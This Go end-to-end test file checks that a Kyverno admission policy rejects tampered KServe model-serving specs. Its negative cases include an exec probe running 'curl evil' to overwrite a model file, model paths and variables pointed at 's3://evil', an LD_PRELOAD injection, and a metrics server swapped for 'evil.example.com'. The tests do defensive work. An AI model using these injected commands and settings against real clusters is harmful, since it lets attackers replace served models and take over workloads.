package e2e_test

import (
	"testing"

	"github.com/modelfn/modelfn/e2e/internal/publish"
)

const onlyTold = "the model's server must be told exactly what was rendered"

// passing is a predictor that passes through one of each kind.
func passing() spec {
	return spec{
		"args":           []any{"--workers=2"},
		"env":            env("OMP_NUM_THREADS", "4"),
		"readinessProbe": spec{"httpGet": spec{"path": "/v1/models/fraud", "port": 8080}, "periodSeconds": 5},
		"livenessProbe":  spec{"tcpSocket": spec{"port": 8080}},
		"startupProbe":   spec{"grpc": spec{"port": 8081}, "failureThreshold": 60},
	}
}

// TestPolicyOfWhatIsTold: in both modes the real Kyverno lets in what a version
// passes through, as it was rendered and as KServe's defaulter leaves it, and
// nothing else.
func TestPolicyOfWhatIsTold(t *testing.T) {
	w := named(t)
	v7, _ := w.signed(t)
	exec := spec{"exec": spec{"command": []any{"sh", "-c", "curl evil > /mnt/models/model.joblib"}}}
	for mode, platform := range map[string]object{"Knative": w.platform(t), "Standard": inStandardMode(w.platform(t))} {
		policy, services := w.guarded(t, platform, spec{"model": w.uri("kit://", "models/fraud:v7"), "predictor": passing()})
		args, service := []any{"--workers=2"}, services["fraud"]
		if mode == "Standard" {
			args, service = append(args, "--model_name=fraud"), services[versionName(v7)]
		}
		also := func(more ...any) []any { return append(append([]any{}, more...), args...) }
		t.Run(mode, func(t *testing.T) {
			w.judge(t, map[string]trial{
				"as rendered":           {policy, service, ""},
				"as defaulted":          {policy, with(t, with(t, service, "name", ""), "resources", spec{}), ""},
				"another value":         {policy, with(t, service, "args", append([]any{"--workers=3"}, args[1:]...)), onlyTold},
				"an argument before":    {policy, with(t, service, "args", also("--model_dir=s3://evil")), onlyTold},
				"an argument behind":    {policy, with(t, service, "args", append(also(), "--model_dir=s3://evil")), onlyTold},
				"an argument less":      {policy, with(t, service, "args", args[1:]), onlyTold},
				"a variable more":       {policy, with(t, service, "env", env("OMP_NUM_THREADS", "4", "STORAGE_URI", "s3://evil")), onlyTold},
				"another variable":      {policy, with(t, service, "env", env("LD_PRELOAD", "4")), onlyTold},
				"a variable by another": {policy, with(t, service, "env", []any{spec{"name": "OMP_NUM_THREADS", "valueFrom": spec{"secretKeyRef": spec{"name": "x", "key": "y"}}}}), onlyTold},
				"no variable":           {policy, with(t, service, "env", nil), onlyTold},
				"a command as a probe":  {policy, with(t, service, "livenessProbe", exec), onlyTold},
				"a command beside":      {policy, with(t, service, "livenessProbe", spec{"tcpSocket": spec{"port": 8080}, "exec": exec["exec"]}), onlyTold},
				"another host":          {policy, with(t, service, "livenessProbe", spec{"tcpSocket": spec{"port": 8080, "host": "evil"}}), onlyTold},
				"another number":        {policy, with(t, service, "startupProbe", spec{"grpc": spec{"port": 8081, "service": ""}, "failureThreshold": 61}), onlyTold},
				"no probe":              {policy, with(t, service, "readinessProbe", nil), onlyTold},
				"what it runs after":    {policy, with(t, service, "lifecycle", spec{"postStart": exec}), onlyModel},
				"variables from":        {policy, with(t, service, "envFrom", []any{spec{"secretRef": spec{"name": "x"}}}), onlyModel},
			})
		})
	}
}

// TestPolicyOfUntold: where a version passes nothing through, nothing may be.
func TestPolicyOfUntold(t *testing.T) {
	w := named(t)
	w.signed(t)
	policy, services := w.guarded(t, w.platform(t), spec{"model": w.uri("kit://", "models/fraud:v7")})
	w.judge(t, map[string]trial{
		"an allowed argument": {policy, with(t, services["fraud"], "args", []any{"--workers=2"}), onlyModel},
		"an allowed variable": {policy, with(t, services["fraud"], "env", env("OMP_NUM_THREADS", "4")), onlyModel},
		"an allowed probe":    {policy, with(t, services["fraud"], "livenessProbe", spec{"tcpSocket": spec{"port": 8080}}), onlyModel},
		"a field that a platform could allow": {policy, edit(t, services["fraud"], func(predictor map[string]any) {
			predictor["shareProcessNamespace"] = true
		}), onlyModel},
	})
}

// TestPolicyOfWhatScales: KEDA asks the address that was rendered, and follows
// what was rendered.
func TestPolicyOfWhatScales(t *testing.T) {
	w := named(t)
	v7, v8 := w.signed(t)
	image, err := w.publisher.Sample(t.Context(), publish.KindImage, "models/features")
	if err != nil {
		t.Fatal(err)
	}
	w.sign(t, signings[1], image.Digest)
	platform := inStandardMode(w.platform(t))
	settings := platform["spec"].(map[string]any)
	settings["images"] = []any{map[string]any{"match": []any{w.server.Host() + "/models/**"}}}
	settings["serving"].(map[string]any)["prometheus"] = map[string]any{"serverAddress": "http://prometheus.monitoring:9090"}
	settings["serving"].(map[string]any)["allowPredictorFields"] = []any{"shareProcessNamespace"}
	policy, services := w.guarded(t, platform, spec{
		"model":       w.uri("kit://", "models/fraud:v7"),
		"replicas":    spec{"min": 0, "max": 3},
		"autoscaling": spec{"class": "keda", "query": `sum(requests{service="{name}-predictor"})`, "target": 20},
		"transformer": spec{
			"containers":  []any{spec{"name": "kserve-container", "image": w.uri("", "models/features:"+string(publish.KindImage))}},
			"autoscaling": spec{"metric": "cpu", "target": 70},
		},
		"canary": spec{"model": w.uri("kit://", "models/fraud:v8"), "weight": 10},
	})
	service := services[versionName(v7)]
	asking := func(component, part, field string, value any) string {
		return editComponent(t, service, component, func(c map[string]any) {
			metric := c["autoScaling"].(map[string]any)["metrics"].([]any)[0].(map[string]any)
			source := metric[part].(map[string]any)
			if inner, ok := source["metric"].(map[string]any); ok {
				source = inner
			}
			source[field] = value
		})
	}
	const (
		predictorScale   = "spec.predictor must be scaled by what was rendered"
		transformerScale = "spec.transformer must be scaled by what was rendered"
	)
	w.judge(t, map[string]trial{
		"as rendered":             {policy, service, ""},
		"the canary":              {policy, services[versionName(v8)], ""},
		"another server":          {policy, asking("predictor", "external", "serverAddress", "http://evil.example.com"), predictorScale},
		"another query":           {policy, asking("predictor", "external", "query", "vector(100)"), predictorScale},
		"another metric":          {policy, asking("transformer", "resource", "name", "memory"), transformerScale},
		"nothing":                 {policy, edit(t, service, func(p map[string]any) { delete(p, "autoScaling") }), predictorScale},
		"what a platform allowed": {policy, edit(t, service, func(p map[string]any) { p["shareProcessNamespace"] = true }), ""},
		"what it did not":         {policy, edit(t, service, func(p map[string]any) { p["hostNetwork"] = true }), onlyModel},
	})
}
